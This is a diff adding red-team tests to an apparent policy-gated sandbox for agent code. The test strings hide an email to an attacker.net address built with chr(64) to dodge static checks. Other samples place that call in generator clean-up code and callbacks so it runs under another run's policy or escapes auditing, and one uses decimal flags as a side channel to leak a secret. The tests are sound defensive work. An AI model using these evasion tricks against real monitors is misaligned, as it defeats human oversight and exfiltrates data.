@@ -325,3 +325,130 @@ def test_a_run_over_its_limit_still_stops_while_another_run_is_in_progress() -> 
         t.join()
     assert outcome["small"] == 5_000_000
     assert isinstance(outcome["big"], MemoryLimit)
+
+
+# -- items 8-11 (red team, second round): a run's code runs only under its own run ----------
+# the address is built at run time, so the static check cannot see it: the gate decides
+SEND = "send_email(to='boss' + chr(64) + 'attacker.net', subject='hi', body='x')"
+# run A may mail anyone (its audit would see it): only the isolation stops the mail below
+MAIL_ANYONE = parse_policy("policy a\nallow send_email(*)\n")
+
+
+def _indent(text: str) -> str:
+    return "\n".join("    " + line for line in text.splitlines())
+
+
+# each leaves a body suspended inside one unwinding construct whose clean-up sends the mail
+SUSPENDED_IN = {
+    "try-finally": f"def g():\n    try:\n        yield 1\n    finally:\n        {SEND}\n"
+                   "def make():\n    it = g()\n    next(it)\n    return it\n",
+    "try-except-star-finally": f"def g():\n    try:\n        yield 1\n    except* ValueError:\n        pass\n"
+                               f"    finally:\n        {SEND}\n"
+                               "def make():\n    it = g()\n    next(it)\n    return it\n",
+    "with-exit": f"class CM:\n    def __enter__(self):\n        return self\n"
+                 f"    def __exit__(self, *a):\n        {SEND}\n"
+                 "def g():\n    with CM():\n        yield 1\n"
+                 "def make():\n    it = g()\n    next(it)\n    return it\n",
+    "finally-calls-a-function": f"def later():\n    {SEND}\n"
+                                "def g():\n    try:\n        yield 1\n    finally:\n        later()\n"
+                                "def make():\n    it = g()\n    next(it)\n    return it\n",
+    "async-for-over-an-async-generator": "class W:\n    def __await__(self):\n        yield 'req'\n"
+                                         f"async def ag():\n    try:\n        await W()\n        yield 1\n"
+                                         f"    finally:\n        {SEND}\n"
+                                         "async def c():\n    async for x in ag():\n        pass\n"
+                                         "def make():\n    co = c()\n    co.send(None)\n    return co\n",
+    "async-with-aexit": "class W:\n    def __await__(self):\n        yield 'req'\n"
+                        "class ACM:\n    async def __aenter__(self):\n        return self\n"
+                        f"    async def __aexit__(self, *a):\n        {SEND}\n"
+                        "async def c():\n    async with ACM():\n        await W()\n"
+                        "def make():\n    co = c()\n    co.send(None)\n    return co\n",
+}
+
+
+@pytest.mark.parametrize("code", [pytest.param(c, id=k) for k, c in SUSPENDED_IN.items()])
+def test_a_suspended_body_returned_by_one_run_sends_nothing_when_dropped_inside_another(code: str) -> None:
+    sent, audit_a, audit_b = [], [], []  # type: list[str], list[ToolEvent], list[ToolEvent]
+
+    def send_email(to: str, subject: str, body: str) -> str:
+        sent.append(to)
+        return "ok"
+    a = Evaluator(MAIL_ANYONE, audit=audit_a.append)
+    b = Evaluator(audit=audit_b.append)
+    kept = [a.eval(code + "make()", {"send_email": send_email})]
+
+    def forget() -> int:  # run B's tool: the host drops A's old result meanwhile
+        kept.clear()
+        gc.collect()
+        return 0
+    assert b.eval("forget()", {"forget": forget, "send_email": send_email}) == 0
+    assert (sent, [e.name for e in audit_a], [e.name for e in audit_b]) == ([], [], ["forget"])
+
+
+def test_a_function_defined_while_a_dropped_body_unwinds_never_exists() -> None:
+    sent, send_email = _mailbox()
+    res = Evaluator("agent").eval(
+        "box = []\ndef g():\n    try:\n        yield 1\n    except* ValueError:\n        pass\n"
+        f"    finally:\n        def later():\n            return {SEND}\n        box.append(later)\n"
+        "def h():\n    it = g()\n    next(it)\n    return [it, box]\nh()", {"send_email": send_email})
+    res[0] = None  # the host drops the suspended generator (no run active)
+    gc.collect()
+    assert (res[1], sent) == ([], [])
+
+
+# what run A hands the host for later: a callback, or a generator the host steps
+HANDLERS = {
+    "callback": (f"def on_event(evt):\n    return {SEND}\non_event", lambda h: h("hello")),
+    "generator": (f"def steps():\n    yield 1\n    yield {SEND}\ndef make():\n    it = steps()\n"
+                  "    next(it)\n    return it\nmake()", next),
+}
+
+
+@pytest.mark.parametrize(("code", "use"), [pytest.param(*v, id=k) for k, v in HANDLERS.items()])
+def test_a_runs_callback_invoked_by_another_runs_tool_is_decided_by_its_own_policy(code: str, use: Any) -> None:
+    sent, audit_a, audit_b = [], [], []  # type: list[str], list[ToolEvent], list[ToolEvent]
+
+    def send_email(to: str, subject: str, body: str) -> str:
+        sent.append(to)
+        return "ok"
+    a = Evaluator("agent", audit=audit_a.append)  # mail only to @example.com
+    b = Evaluator(audit=audit_b.append)  # the default policy grants every env tool
+    handler = a.eval(code, {"send_email": send_email})
+
+    def publish() -> Any:  # run B's tool dispatches the event to run A's subscriber
+        return use(handler)
+    with pytest.raises(PolicyViolation, match="send_email"):
+        b.eval("publish()", {"publish": publish, "send_email": send_email})
+    assert (sent, [e.name for e in audit_a], [e.name for e in audit_b]) == ([], ["send_email"], ["publish"])
+
+
+def test_a_runs_callback_invoked_by_another_runs_tool_is_audited_by_its_own_hook() -> None:
+    sent, audit_a, audit_b = [], [], []  # type: list[str], list[ToolEvent], list[ToolEvent]
+
+    def send_email(to: str, subject: str, body: str) -> str:
+        sent.append(to)
+        return "ok"
+    handler = Evaluator("agent", audit=audit_a.append).eval(
+        "def on_event(evt):\n    return send_email(to='ops@example.com', subject='x', body=evt)\non_event",
+        {"send_email": send_email})
+    b = Evaluator(audit=audit_b.append)
+    assert b.eval("publish('hello')", {"publish": handler.__call__}) == "ok"
+    assert (sent, [e.name for e in audit_a], [e.name for e in audit_b]) == (
+        ["ops@example.com"], ["send_email"], ["publish"])
+
+
+DIVIDE_BY_ZERO = ("if secret:\n    try:\n        one / zero\n    except Exception:\n        pass\n0")
+
+
+@pytest.mark.parametrize("env", [
+    pytest.param("import decimal\none, zero = decimal.Decimal(1), decimal.Decimal(0)\n", id="guest-made-decimals"),
+    pytest.param("", id="host-given-decimals"),
+])
+def test_a_runs_decimal_flags_are_seen_by_neither_the_host_nor_the_next_run(env: str) -> None:
+    import decimal
+
+    decimal.getcontext().clear_flags()
+    host = {"secret": 1, "one": decimal.Decimal(1), "zero": decimal.Decimal(0)}
+    assert safe_eval.safe_eval(env + DIVIDE_BY_ZERO, host) == 0
+    seen = safe_eval.safe_eval("import decimal\nc = decimal.getcontext()\n[c.prec, repr(c).split('flags=')[1]]")
+    assert (seen, decimal.getcontext().flags[decimal.DivisionByZero]) == (
+        [28, "[], traps=[InvalidOperation, DivisionByZero, Overflow])"], False)
